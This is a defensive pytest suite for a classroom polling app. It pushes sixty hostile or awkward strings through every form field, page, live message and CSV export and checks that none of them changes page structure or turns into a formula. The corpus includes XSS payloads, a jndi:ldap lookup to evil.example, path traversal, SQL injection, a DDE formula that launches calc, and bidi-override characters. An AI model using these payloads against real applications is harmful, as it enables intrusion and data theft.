"""Sixty strings that other programs fell over, in every field that anybody can fill."""

import csv
import html
import io
import json
import re

import classpulse
import pytest
from conftest import Browser, Presenter, Respondent, Teacher

# What runs complains in the console, and that fails a test in the browser.
RUN = "console.error('it ran')"
CORPUS = [
    # markup
    f"<script>{RUN}</script>", f"<img src=x onerror=\"{RUN}\">", f"<svg/onload={RUN}>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", "<b>bold", "</main>",
    "<!-- ", "-->", "<![CDATA[", "<plaintext>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>", "<iframe srcdoc='<p>x'>", "<style>*{display:none}",
    "<form action=//evil.example><button>Go", "&lt;script&gt;", "&amp;amp; &#x3c;b&#62;",
    "&notit;",
    # attributes
    f"\" autofocus onfocus=\"{RUN}", f"' onmouseover='{RUN}", f"x\" hx-on:load=\"{RUN}",
    "\" style=\"position:fixed", f"javascript:{RUN}", "`${7*7}`", "\\\" \\u003c \\x3c \\",
    # templates and formats
    "{{!base}}", "{{7*7}}", "% import os", "<% end %>", "%s %d %(x)s %n", "{0} {x.__class__}",
    "${jndi:ldap://evil.example/a}", "../../etc/passwd", "%2e%2e%2f%00", "http://evil.example/",
    # spreadsheets and SQL
    "=1+1", "=HYPERLINK(\"http://evil.example\")", "+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0",
    "a,b;c\td|e", "say \"\"quotes\"\"", "'; DROP TABLE users; --", "1 OR 1=1", "\" OR \"\"=\"",
    # scripts, directions and what can't be seen
    "\u202eevil\u202c", "\u2066\u2067 isolates", "שלום עולם (abc) 123", "مرحبا <b> 456",
    "\u200b\u200d\ufeff",
    "👩🏽‍🔬👨‍👩‍👧‍👦🏳️‍🌈", "é e\u0301 ﬁ İ ß", "\u2028\u2029 lines", "𝕳𝖊𝖑𝖑𝖔 ｆｕｌｌ",
    # too much, and too little
    "Z" + "\u0301\u0335\u0489" * 1700, "W" * 480, "null", "\0\x07\x1b[31m red", "-"]


def seen(text, most):
    """What is kept of a text in a field of one line: no controls, and single spaces."""
    return " ".join(classpulse.clean_text(text).split())[:most].strip()


def typed(text, most):
    """What somebody types of it: never empty, and nothing that means something else there."""
    return "x " + text if not seen(text, most) or text == "-" else text[:most]


def test_there_are_sixty_of_them():
    assert len(set(CORPUS)) == len(CORPUS) >= 60


# Every field, every page, every message, every file

PLAIN = "Plain"
LESSON = [("multiple_choice", lambda text: {"options": f"{text}\nother"}, lambda text: ["A"]),
          ("select_all", lambda text: {"options": f"*{text}\nother"}, lambda text: ["A", "B"]),
          ("ranking", lambda text: {"options": f"{text}\nother"}, lambda text: ["B", "A"]),
          ("rating", lambda text: {"low": text[:40], "high": text[:40]}, lambda text: ["5"]),
          ("numeric", lambda text: {"unit": text[:20]}, lambda text: ["3.5"]),
          ("short_text", lambda text: {"accepted": text}, lambda text: [text[:200]]),
          ("open_text", lambda text: {}, lambda text: [text]),
          ("word_cloud", lambda text: {}, lambda text: [f"w{text[:50]}w"])]
PAGES = ["/", "/sessions", "/sessions/1", "/sessions/1/edit", "/sessions/1/delete",
         "/sessions/1/reuse", "/sessions/1/questions/new/rating", "/present/1",
         "/questions/1/delete", *(f"/{page}" for number in range(1, len(LESSON) + 1) for page in (
             f"questions/{number}/edit", f"questions/{number}/results",
             f"present/1?question={number}"))]


def teach(presenter, text):
    """A lesson in which everything that can be typed is this text; its respondent."""
    session_id = presenter.create_session(typed(text, 200))
    presenter.post(f"/sessions/{session_id}/edit", {
        "name": typed(text, 200), "names": "required"}, status=303)
    session = classpulse.get_session(classpulse.classroom.db, session_id)
    phone = Respondent(session["code"])
    phone.post(f"/audience/{session['code']}/name", {"name": typed(text, 60)}, status=303)
    for type, fields, answer in LESSON:
        line = seen(typed(text, 200), 200)
        picture = classpulse.classroom.db.write(
            classpulse.create_image, "image/png", b"\x89PNG\r\n\x1a\n")
        question_id = presenter.create_question(session_id, type, typed(text, 500), abstain="1",
                                                image=picture, image_alt=line, **fields(line))
        presenter.toggle(question_id)
        phone.respond(question_id, *answer(typed(text, 5000)))
    return session, phone


def outline(page):
    """The tags of a page with their attributes' names: what no text may change.

    But for the link to the whole of one that was cut, and for code, in which nothing else stands.
    """
    text = re.sub('<a href="[^"]*/text[?]key=[0-9a-f]*">whole text</a>|</?code>'
                  '|<span hidden data-said>[^<]*</span>', "", page.text)
    return re.findall("<[^>]*>", re.sub('"[^"]*"', '""', text))


def shown(page):
    """What a page says, and what its fields hold."""
    return " ".join(html.unescape(page.text).split())


def pages_of(presenter, session, phone):
    """{path: page} of all that the presenter and the respondent see."""
    for shape in ("long", "wide", "summary"):           # pages name the files that are there
        presenter.get(f"/sessions/1/export?shape={shape}", status=200)
    return {**{path: presenter.get(path, status=200) for path in PAGES},
            "audience": phone.get(f"/audience/{session['code']}", status=200),
            "private": presenter.get("/questions/6/private", status=200)}


@pytest.fixture(scope="module")
def harmless(tmp_path_factory):
    """{path: outline} of the pages of a lesson with a plain text."""
    classpulse.classroom.open(tmp_path_factory.mktemp("harmless") / "data")
    presenter = Presenter(classpulse.classroom.db, PLAIN)
    presenter.be_alone()
    pages = pages_of(presenter, *teach(presenter, PLAIN))
    outlines = {path: outline(page) for path, page in pages.items()}
    classpulse.classroom.close()
    return outlines


@pytest.mark.parametrize("text", CORPUS, ids=lambda text: ascii(text)[1:25])
def test_a_text_stays_a_text(harmless, room, presenter, text):
    presenter.be_alone()
    session, phone = teach(presenter, text)
    title, name = classpulse.clean_block(typed(text, 500)), seen(typed(text, 200), 200)
    for path, page in pages_of(presenter, session, phone).items():
        assert outline(page) == harmless[path], path
        assert " ".join(title.split()) in shown(page) or name in shown(page), path
    check_messages(room, session, title)
    plain = classpulse.plain_text(title)
    check_csv(presenter.get("/sessions/1/export").body, plain, name, text)


# Tags that no message has, but for a question's picture as it is shown.
NEVER = re.compile(r"<(script|img|svg|style|iframe|base|meta)\b", re.IGNORECASE)
PICTURE = '<img class="picture" src="" loading="lazy" alt="">'


def check_messages(room, session, title):
    """Each message is JSON whose texts are whole and whose pieces of HTML hold no other tags."""
    for topic, id in [("audience", 1), ("present", 1), *(
            ("results", number) for number in range(1, len(LESSON) + 1))]:
        message = room.live.encode(room.live.current(topic, id))
        assert "\n" not in message
        told = json.loads(message.encode("utf-8"))
        assert told.get("title", title) == title
        for piece in [told.get("html", ""), *(part["html"] for part in told.get("questions", []))]:
            tags = re.findall("<[^>]*>", re.sub(' (src|alt)="[^"]*"', r' \1=""', piece))
            assert {tag for tag in tags if NEVER.match(tag)} <= {PICTURE}


def check_csv(content, title, name, text):
    """Every row has its cells, every text is whole, and none is a formula."""
    header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert len(rows) == len(LESSON)
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        assert cells["question_text"].replace("'", "") == title.replace("'", "")
        assert cells["session_name"].replace("'", "") == name.replace("'", "")
        for column in ("question_text", "session_name", "respondent_name", "answer"):
            assert cells[column][:1] not in tuple("=+-@\t\r")
    answer = rows[6][header.index("answer")]
    assert answer.replace("'", "") == classpulse.clean_block(typed(text, 5000)).replace("'", "")


def test_a_text_that_is_refused_is_shown_as_it_was_typed(visitor, presenter):
    outlines = []
    for text in (PLAIN, *CORPUS):
        name = text + "x" * 201
        pages = [presenter.post("/sessions/new", {"name": name}, status=422),
                 visitor.post("/join", {"code": name[:15]}, status="*"),
                 visitor.get("/login", params={"username": name}, status=200)]
        assert all(" ".join(name[:15].split()) in shown(page) for page in pages), ascii(text)
        outlines.append([outline(page) for page in pages])
        assert outlines[-1] == outlines[0], ascii(text)


# In a browser

class Class(Teacher):
    """A lesson in which questions and answers are the whole corpus."""

    def __init__(self, server):
        super().__init__(server)
        self.post(f"{self.session}/edit", {"name": CORPUS[0] + "W" * 160, "names": "optional"})
        lines = [seen(text, 200) for text in CORPUS]
        lines = [line for line in dict.fromkeys(lines) if line][:-1]
        self.texts = [self.ask(type, title, **fields) for type, title, fields in (
            ("short_text", CORPUS[1], {}), ("open_text", CORPUS[20], {}),
            ("word_cloud", "W" * 480, {"max_words": "5"}))]
        self.choices = [self.ask("multiple_choice", CORPUS[3], options="\n".join(lines[:26])),
                        self.ask("select_all", CORPUS[4], options="\n".join(lines[26:52])),
                        self.ask("ranking", typed(CORPUS[-4], 500), options="\n".join(lines[-8:])),
                        self.ask("rating", CORPUS[5], low="W" * 40, high="\u202e" + "M" * 39),
                        self.ask("numeric", CORPUS[21], unit="<svg/onload=x>")]
        for text in CORPUS:
            phone = Browser(server)
            phone.post("/join", {"code": self.code})
            phone.post(f"/audience/{self.code}/name", {"name": typed(text, 60)})
            for question_id, most in zip(self.texts, (200, 5000, 60)):
                phone.request("POST", f"/audience/respond/{question_id}",
                              {"response": typed(text, most - 2)}, HX_Request="true")
        self.phone = phone


def sideways(page):
    """By how many pixels a page is wider than its window."""
    return page.evaluate("document.documentElement.scrollWidth - innerWidth")


def test_nothing_runs_and_nothing_breaks_a_page(server, open_browser, open_page):
    teacher = open_browser(Class)
    teacher.post("/alone", {"alone": "1"})
    page = open_page(f"{server.lan}/{teacher.code}", has_touch=True, is_mobile=True,
                     **Teacher.options(teacher.phone))
    back, following = (page.locator(f"[data-turn='{step}']") for step in (-1, 1))
    following.wait_for()
    while back.is_enabled():
        back.tap()
    places = [sideways(page)]
    while following.is_visible():
        following.tap()
        places.append(sideways(page))
    assert len(places) == len(LESSON) + 1 and max(places) <= 0
    other = open_page(f"{server.lan}/", **teacher.options())
    ids = teacher.texts + teacher.choices
    for path in ["/", "/sessions", teacher.session, f"{teacher.session}/edit",
                 f"{teacher.session}/delete", f"{teacher.session}/reuse",
                 f"/login?username={'W' * 300}",
                 *(f"/questions/{id}/results" for id in ids),
                 *(f"/questions/{id}/edit" for id in teacher.choices)]:
        other.goto(server.lan + path)
        if "results" in path:           # drawn by a script
            other.locator(".chart > *").first.wait_for(state="attached")
        assert sideways(other) <= 0, path
    other.set_viewport_size({"width": 1280, "height": 800})
    for id in ids:
        other.goto(f"{server.lan}{teacher.present}?question={id}")
        other.locator("[data-projection]").wait_for()
        other.keyboard.press("r")
        other.wait_for_load_state("networkidle")
        assert sideways(other) <= 0, id
